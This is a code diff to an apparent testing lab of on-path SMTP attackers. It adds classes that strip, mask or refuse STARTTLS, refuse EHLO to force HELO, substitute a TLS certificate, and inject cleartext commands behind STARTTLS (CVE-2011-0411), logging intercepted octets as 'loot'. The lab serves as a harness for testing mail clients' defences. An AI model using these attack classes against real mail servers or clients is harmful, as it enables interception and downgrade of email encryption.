@@ -7,12 +7,18 @@ attack needs. `loot` is every octet that the attacker saw, encrypted ones as the
 import asyncio
 import ssl
 from abc import ABC, abstractmethod
+from collections.abc import Callable
 from dataclasses import dataclass
 
 from letterlock.lab.issuing import accept_any_context
-from letterlock.lab.raw_smtp import Tell, Wire, connected, say_nothing
+from letterlock.lab.raw_smtp import PeerClosed, Tell, Wire, connected, say_nothing
 
 _STARTTLS = b"STARTTLS"
+_MASKED = b"XXXXXXXX"  # as some firewalls write over it
+
+
+def _never(_passed: bytearray) -> bool:
+    return False
 
 
 @dataclass(frozen=True, slots=True)
@@ -50,6 +56,9 @@ class OnPath(ABC):
         if verb == _STARTTLS:
             await self._starttls(session)
             return verb
+        if refusal := self._refusal(verb):
+            await session.victim.write(refusal)
+            return verb
         await session.honest.write(line)
         reply = await session.honest.read_reply()
         await session.victim.write(self._edit_ehlo(reply) if verb == b"EHLO" else reply)
@@ -63,6 +72,40 @@ class OnPath(ABC):
 
     def _edit_ehlo(self, reply: bytes) -> bytes:
         return reply
+
+    def _refusal(self, _verb: bytes) -> bytes:
+        """The attacker's own reply to a command, which the honest server then never gets; mostly none."""
+        return b""
+
+    async def _go_ahead(self, session: RelayedSession, *, behind: bytes = b"", injected: bytes = b"") -> None:
+        """Pass STARTTLS and its 220 on, with what the attacker puts behind either."""
+        await session.honest.write(b"STARTTLS\r\n" + injected)
+        await session.victim.write(await session.honest.read_reply() + behind)
+
+    async def _pass_through(self, session: RelayedSession) -> None:
+        """Pass octets on, TLS that is not the attacker's own, until a side ends. Raises PeerClosed."""
+        upstream = asyncio.create_task(self._pump(session.victim, session.honest, self._finished))
+        downstream = asyncio.create_task(self._pump(session.honest, session.victim))
+        try:
+            await asyncio.wait({upstream, downstream}, return_when=asyncio.FIRST_COMPLETED)
+        finally:
+            upstream.cancel()
+            downstream.cancel()
+            await asyncio.gather(upstream, downstream, return_exceptions=True)
+        raise PeerClosed("passed on until one side ended")
+
+    def _finished(self, _from_victim: bytes | bytearray) -> bool:
+        """Whether the attacker has passed on enough, by what came from the victim since STARTTLS."""
+        return False
+
+    async def _pump(self, source: Wire, target: Wire, finished: Callable[[bytearray], bool] = _never) -> None:
+        """Pass octets on until the source ends, or enough has come. Raises PeerClosed."""
+        passed = bytearray()
+        while not finished(passed):
+            data = await source.read_some()
+            passed += data
+            self.loot += data
+            await target.write(data)
 
     async def _overhear(self, victim: Wire) -> bytes:
         line = await victim.read_line()
@@ -79,6 +122,14 @@ class OnPath(ABC):
         await session.victim.write(await session.honest.read_reply())
 
 
+class Relayer(OnPath):
+    """Changes nothing: what somebody sees who only looks on."""
+
+    async def _starttls(self, session: RelayedSession) -> None:
+        await self._go_ahead(session)
+        await self._pass_through(session)
+
+
 class Stripper(OnPath):
     """Removes STARTTLS from the reply to EHLO (RFC 3207 section 6)."""
 
@@ -91,12 +142,37 @@ class Stripper(OnPath):
         await session.victim.write(b"502 5.5.1 Command not implemented\r\n")
 
 
+class Masker(Stripper):
+    """Writes over STARTTLS in the reply to EHLO, and refuses it."""
+
+    def _edit_ehlo(self, reply: bytes) -> bytes:
+        self._tell("attacker on the path: overwrites STARTTLS in the reply to EHLO")
+        return reply.replace(_STARTTLS, _MASKED)
+
+
+class HelloRefuser(Stripper):
+    """Refuses EHLO, so that the client says HELO, to which no extension is offered (RFC 5321 section 3.2)."""
+
+    def _refusal(self, verb: bytes) -> bytes:
+        if verb != b"EHLO":
+            return b""
+        self._tell("attacker on the path: refuses EHLO")
+        return b"502 5.5.1 Command not implemented\r\n"
+
+
 class Refuser(OnPath):
-    """Lets STARTTLS be offered, and answers 454 to the command (RFC 3207 section 4)."""
+    """Lets STARTTLS be offered, and refuses the command (RFC 3207 section 4)."""
+
+    LATER = b"454 4.7.0 TLS not available due to temporary reason\r\n"
+    NEVER = b"502 5.5.1 Command not implemented\r\n"
+
+    def __init__(self, address: str, port: int, tell: Tell = say_nothing, *, reply: bytes = LATER) -> None:
+        super().__init__(address, port, tell)
+        self._reply = reply
 
     async def _starttls(self, session: RelayedSession) -> None:
         self._tell("attacker on the path: refuses STARTTLS")
-        await session.victim.write(b"454 4.7.0 TLS not available due to temporary reason\r\n")
+        await session.victim.write(self._reply)
 
 
 class Impostor(OnPath):
@@ -107,11 +183,12 @@ class Impostor(OnPath):
         self._context = context
 
     async def _starttls(self, session: RelayedSession) -> None:
-        await session.honest.write(b"STARTTLS\r\n")
-        await session.victim.write(await session.honest.read_reply())
+        await self._go_ahead(session)
         self._tell("attacker on the path: terminates TLS with another certificate")
         await session.honest.start_tls(accept_any_context(), server=False)
         await session.victim.start_tls(self._context, server=True)
+        if session.victim.resumed:
+            self._tell("attacker on the path: the client resumed its TLS session, and saw no certificate")
 
 
 class Injector(OnPath):
@@ -124,19 +201,20 @@ class Injector(OnPath):
     INJECTED = b"250-mx ESMTP\r\n250-PIPELINING\r\n250-XINJECTED\r\n250 8BITMIME\r\n"
 
     async def _starttls(self, session: RelayedSession) -> None:
-        await session.honest.write(b"STARTTLS\r\n")
-        await session.victim.write(await session.honest.read_reply() + self.INJECTED)
+        await self._go_ahead(session, behind=self.INJECTED)
         self._tell("attacker on the path: injected replies in cleartext behind 220")
-        upstream = asyncio.create_task(self._pump(session.victim, session.honest))
-        try:
-            await self._pump(session.honest, session.victim)
-        finally:
-            upstream.cancel()
-            await asyncio.gather(upstream, return_exceptions=True)
+        await self._pass_through(session)
 
-    async def _pump(self, source: Wire, target: Wire) -> None:
-        """Pass octets on until the source ends. Raises Ended."""
-        while True:
-            data = await source.read_some()
-            self.loot += data
-            await target.write(data)
+
+class CommandInjector(OnPath):
+    """Sends commands in cleartext right behind STARTTLS, then passes on TLS (CVE-2011-0411).
+
+    A server that keeps them takes them for the victim's words inside TLS, and sends the attacker a copy.
+    """
+
+    INJECTED = b"EHLO injected.test\r\nMAIL FROM:<mallory@mallory.example>\r\nRCPT TO:<mallory@mallory.example>\r\n"
+
+    async def _starttls(self, session: RelayedSession) -> None:
+        await self._go_ahead(session, injected=self.INJECTED)
+        self._tell("attacker on the path: injected commands in cleartext behind STARTTLS")
+        await self._pass_through(session)
